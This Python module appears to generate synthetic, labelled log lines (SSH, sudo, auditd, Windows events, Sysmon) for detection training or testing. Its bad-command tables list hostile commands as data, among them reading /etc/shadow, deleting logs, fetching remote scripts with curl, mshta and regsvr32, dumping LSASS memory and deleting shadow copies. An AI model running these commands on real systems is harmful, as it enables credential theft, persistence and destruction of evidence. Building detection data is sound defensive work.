"""Lines of machines: OpenSSH, sudo, auditd, Windows security events as key=value, Sysmon.

A maker takes the chance and a time, and what a caller wants fixed; the rest is invented.
"""

from __future__ import annotations

from datetime import datetime
from random import Random

from vedette.forge.scene import cast
from vedette.forge.scene.line import Line, Value


def sshd_failed(rng: Random, when: datetime, *, host: str = "", user: str = "", address: str = "") -> Line:
    host, address = host or cast.server(rng), address or cast.outside(rng)
    known = bool(user) or rng.random() < 0.4
    user = user or (cast.person(rng) if known else rng.choice(cast.TRIED))
    port, pid = cast.port(rng), rng.randint(800, 60000)
    who = user if known else f"invalid user {user}"
    text = f"{cast.syslog(when)} {host} sshd[{pid}]: Failed password for {who} from {address} port {port} ssh2"
    fields: dict[str, Value] = {
        "time": cast.syslog(when),
        "host": host,
        "program": "sshd",
        "pid": pid,
        "user": user,
        "source_ip": address,
        "source_port": port,
    }
    missing = "" if known else ", an account that does not exist there"
    return Line(
        "sshd",
        text,
        fields,
        f"On {host}, a password was refused for {user}{missing}; the client was {address}.",
        why="One refused password alone may be a typing mistake; many from one address are guessing.",
        family="sshd-failed",
    )


def sshd_accepted(rng: Random, when: datetime, *, host: str = "", user: str = "", address: str = "") -> Line:
    host, user = host or cast.server(rng), user or cast.person(rng)
    address, port, pid = address or cast.inside(rng), cast.port(rng), rng.randint(800, 60000)
    how = rng.choice(["password", "publickey"])
    text = f"{cast.syslog(when)} {host} sshd[{pid}]: Accepted {how} for {user} from {address} port {port} ssh2"
    fields: dict[str, Value] = {
        "time": cast.syslog(when),
        "host": host,
        "program": "sshd",
        "pid": pid,
        "method": how,
        "user": user,
        "source_ip": address,
        "source_port": port,
    }
    return Line(
        "sshd",
        text,
        fields,
        f"{user} logged in to {host} over SSH from {address}, with method {how}.",
        why="A login by itself is everyday business; what matters is whether this user comes from there.",
        family="sshd-accepted",
    )


SUDO_DAILY = (
    "/usr/bin/systemctl status nginx",
    "/usr/bin/apt-get update",
    "/usr/bin/journalctl -u postfix",
    "/usr/bin/tail -n 100 /var/log/syslog",
    "/usr/sbin/nginx -t",
    "/usr/bin/df -h",
    "/usr/bin/systemctl reload nginx",
    "/usr/bin/ls /srv/www",
)
SUDO_BAD = {
    "/usr/bin/cat /etc/shadow": ("T1003.008", "it reads the password hashes of all local accounts"),
    "/usr/bin/rm -f /var/log/auth.log": ("T1070.002", "it deletes the log of logins"),
    "/usr/sbin/useradd -o -u 0 -m support2": ("T1136.001", "it makes a second account with user id 0"),
    "/usr/bin/tee -a /home/deploy/.ssh/authorized_keys": ("T1098.004", "it adds a key that may log in as deploy"),
    "/usr/bin/crontab -u root /tmp/.cron": ("T1053.003", "it installs a crontab for root out of a file in /tmp"),
    "/usr/bin/chmod u+s /usr/local/bin/python3": ("T1548.001", "it lets every user run an interpreter as root"),
    "/usr/sbin/iptables -F": ("T1562.004", "it drops every rule of the host's firewall"),
}


def sudo(rng: Random, when: datetime, *, bad: bool | None = None, host: str = "", user: str = "") -> Line:
    bad = rng.random() < 0.5 if bad is None else bad
    host, user, tty = host or cast.server(rng), user or cast.person(rng), f"pts/{rng.randint(0, 9)}"
    command = rng.choice(list(SUDO_BAD)) if bad else rng.choice(SUDO_DAILY)
    pwd = rng.choice(["/tmp", f"/home/{user}", "/var/www", "/opt"])  # noqa: S108
    text = f"{cast.syslog(when)} {host} sudo: {user} : TTY={tty} ; PWD={pwd} ; USER=root ; COMMAND={command}"
    fields: dict[str, Value] = {
        "time": cast.syslog(when),
        "host": host,
        "program": "sudo",
        "user": user,
        "tty": tty,
        "working_directory": pwd,
        "run_as": "root",
        "command": command,
    }
    technique, reason = SUDO_BAD.get(command, ("", ""))
    why = f"The command is suspicious: {reason}." if reason else "The command is part of everyday administration."
    return Line("sudo", text, fields, f"{user} ran `{command}` as root on {host}.", technique, why, "sudo")


AUDIT_BAD = {
    "curl -s http://{domain}/x.sh -o /tmp/x.sh": ("T1105", "it fetches a script from an outside server into /tmp"),
    "cat /etc/shadow": ("T1003.008", "it reads the password hashes of all local accounts"),
    "nmap -sS -p- 10.0.0.0/24": ("T1046", "it scans every port of a network"),
    "systemctl enable /etc/systemd/system/{word}.service": ("T1543.002", "it makes a service start with the system"),
    "find / -perm -4000 -type f": ("T1083", "it looks through the whole disk for programs that run as their owner"),
    "base64 -d /tmp/{word}.b64": ("T1140", "it decodes a Base64 file in /tmp"),
}
AUDIT_DAILY = (
    "ls -la /srv/www",
    "grep -c error /var/log/app.log",
    "date -u",
    "uptime",
    "tar czf /backup/{word}.tgz /srv",
    "vim /home/{word}/notes.txt",
    "python3 /opt/{word}/report.py",
)


def auditd(rng: Random, when: datetime, *, bad: bool | None = None, host: str = "") -> Line:
    bad = rng.random() < 0.5 if bad is None else bad
    host, uid = host or cast.server(rng), rng.randint(1000, 1060)
    form = rng.choice(list(AUDIT_BAD)) if bad else rng.choice(AUDIT_DAILY)
    command = form.replace("{domain}", cast.domain(rng)).replace("{word}", rng.choice(cast.WORDS))
    argv = command.split(" ")
    serial, stamp = rng.randint(1000, 999999), f"{when.timestamp():.3f}"
    told = " ".join(f'a{n}="{arg}"' for n, arg in enumerate(argv))
    text = f"node={host} type=EXECVE msg=audit({stamp}:{serial}): argc={len(argv)} {told} auid={uid}"
    fields: dict[str, Value] = {
        "host": host,
        "type": "EXECVE",
        "time": stamp,
        "serial": serial,
        "argc": len(argv),
        "a0": argv[0],
        "auid": uid,
    }
    technique, reason = AUDIT_BAD.get(form, ("", ""))
    why = f"It is suspicious: {reason}." if reason else "Nothing in it goes beyond everyday work."
    return Line(
        "auditd", text, fields, f"On {host}, the user with login id {uid} ran `{command}`.", technique, why, "auditd"
    )


LOGON_TYPES = {3: "network", 10: "remote interactive"}


def windows_logon(
    rng: Random, when: datetime, *, failed: bool | None = None, host: str = "", user: str = "", address: str = ""
) -> Line:
    failed = rng.random() < 0.5 if failed is None else failed
    host, user, address = host or cast.desk(rng), user or cast.person(rng), address or cast.inside(rng)
    kind = rng.choice([3, 10])
    event = 4625 if failed else 4624
    status = " Status=0xC000006A" if failed else ""
    text = (
        f"{cast.iso(when)} {host} Security EventID={event} TargetUserName={user} LogonType={kind} "
        f"IpAddress={address}{status}"
    )
    fields: dict[str, Value] = {
        "time": cast.iso(when),
        "host": host,
        "channel": "Security",
        "event_id": event,
        "user": user,
        "logon_type": kind,
        "source_ip": address,
    }
    told = "failed with a wrong password" if failed else "succeeded"
    return Line(
        "windows",
        text,
        fields,
        f"A logon of type {kind} ({LOGON_TYPES[kind]}) for {user} on {host} from {address} {told}.",
        why="One such event is everyday business; a series of failures, or a source that does not fit, is not.",
        family=f"windows-{event}",
    )


def windows_change(rng: Random, when: datetime, *, host: str = "") -> Line:
    host, actor = host or cast.desk(rng), cast.person(rng)
    made = f"svc_{rng.choice(cast.WORDS)}"
    event, more, says, technique, why = rng.choice(
        [
            (
                4720,
                f"TargetUserName={made}",
                f"{actor} created the account {made} on {host}.",
                "T1136.001",
                "A new local account outside a change request gives an intruder a way back.",
            ),
            (
                1102,
                "Channel=Security",
                f"{actor} cleared the Security event log on {host}.",
                "T1070.001",
                "Clearing the log removes evidence; administrators hardly ever need it.",
            ),
            (
                7045,
                f"ServiceName={made} ImagePath=C:\\Windows\\Temp\\{made}.exe",
                f"A service {made} was installed on {host}; its program lies in C:\\Windows\\Temp.",
                "T1543.003",
                "Services from a temporary folder are a usual way to persist or to run code from afar.",
            ),
            (
                4698,
                f"TaskName=\\{made}",
                f"{actor} created the scheduled task {made} on {host}.",
                "T1053.005",
                "A task that nobody ordered starts a program again and again.",
            ),
            (
                4732,
                f"MemberName={made} TargetUserName=Administrators",
                f"{actor} added {made} to the group Administrators on {host}.",
                "T1098",
                "Membership in that group gives full control of the machine.",
            ),
        ]
    )
    channel = "System" if event == 7045 else "Security"
    text = f"{cast.iso(when)} {host} {channel} EventID={event} SubjectUserName={actor} {more}"
    fields: dict[str, Value] = {
        "time": cast.iso(when),
        "host": host,
        "channel": channel,
        "event_id": event,
        "actor": actor,
    }
    return Line("windows", text, fields, says, technique, why, "windows-change")


SYSMON_BAD = (
    ("powershell.exe -NoP -W Hidden -Enc {blob}", "C:\\Program Files\\Microsoft Office\\WINWORD.EXE", "T1059.001",
     "a word processor starts a hidden shell with encoded commands"),
    ("rundll32.exe C:\\Users\\Public\\{word}.dll,Start", "C:\\Windows\\explorer.exe", "T1218.011",
     "rundll32 loads a library out of a folder that everybody may write"),
    ("mshta.exe http://{domain}/{word}.hta", "C:\\Windows\\explorer.exe", "T1218.005",
     "mshta runs a script straight from an outside server"),
    ("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\{word}.dmp full",
     "C:\\Windows\\System32\\cmd.exe", "T1003.001", "comsvcs.dll dumps a process's memory, as is done with LSASS"),
    ("vssadmin.exe delete shadows /all /quiet", "C:\\Windows\\System32\\cmd.exe", "T1490",
     "it deletes all shadow copies, which hinders recovery"),
    ("reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {word} /d C:\\Users\\Public\\{word}.exe",
     "C:\\Windows\\System32\\cmd.exe", "T1547.001", "it makes a program start at every logon"),
    ("schtasks.exe /create /tn {word} /tr C:\\Users\\Public\\{word}.exe /sc minute", "C:\\Windows\\System32\\cmd.exe",
     "T1053.005", "it makes a task that runs a program of a public folder every minute"),
    ("regsvr32.exe /s /u /i:http://{domain}/{word}.sct scrobj.dll", "C:\\Windows\\System32\\cmd.exe", "T1218.010",
     "regsvr32 fetches and runs a script from an outside server"),
    ("wmic.exe /node:{inside} process call create C:\\Temp\\{word}.exe", "C:\\Windows\\System32\\cmd.exe", "T1047",
     "WMI starts a program on another machine"),
)  # fmt: skip
SYSMON_DAILY = (
    ("WINWORD.EXE /n C:\\Users\\{user}\\Documents\\{word}.docx", "C:\\Windows\\explorer.exe"),
    ("chrome.exe --type=renderer", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"),
    ("svchost.exe -k netsvcs -p", "C:\\Windows\\System32\\services.exe"),
    ("notepad.exe C:\\Users\\{user}\\Desktop\\{word}.txt", "C:\\Windows\\explorer.exe"),
    ("msiexec.exe /V", "C:\\Windows\\System32\\services.exe"),
    ("Teams.exe", "C:\\Windows\\explorer.exe"),
)


def sysmon(rng: Random, when: datetime, *, bad: bool | None = None, host: str = "", user: str = "") -> Line:
    bad = rng.random() < 0.5 if bad is None else bad
    host, user, pid = host or cast.desk(rng), user or cast.person(rng), rng.randint(1000, 20000)
    form, parent, technique, reason = rng.choice(SYSMON_BAD) if bad else (*rng.choice(SYSMON_DAILY), "", "")
    slots = {
        "{blob}": random_blob(rng),
        "{word}": rng.choice(cast.WORDS),
        "{domain}": cast.domain(rng),
        "{inside}": cast.inside(rng),
        "{user}": user,
    }
    command = form
    for slot, value in slots.items():
        command = command.replace(slot, value)
    text = (
        f"{cast.iso(when)} {host} Sysmon EventID=1 ProcessId={pid} User={user} "
        f'CommandLine="{command}" ParentImage="{parent}"'
    )
    fields: dict[str, Value] = {
        "time": cast.iso(when),
        "host": host,
        "event_id": 1,
        "pid": pid,
        "user": user,
        "command_line": command,
        "parent_image": parent,
    }
    why = f"It is suspicious: {reason}." if reason else "Program and parent fit everyday work at a desk."
    says = f"{user} started `{command}` on {host}; the parent was {parent}."
    return Line("sysmon", text, fields, says, technique, why, "sysmon")


def random_blob(rng: Random) -> str:
    """Looks like the start of UTF-16 text in Base64."""
    return "".join(rng.choice("SQBFAGcwZXYh") + "A" for _ in range(rng.randint(8, 16)))
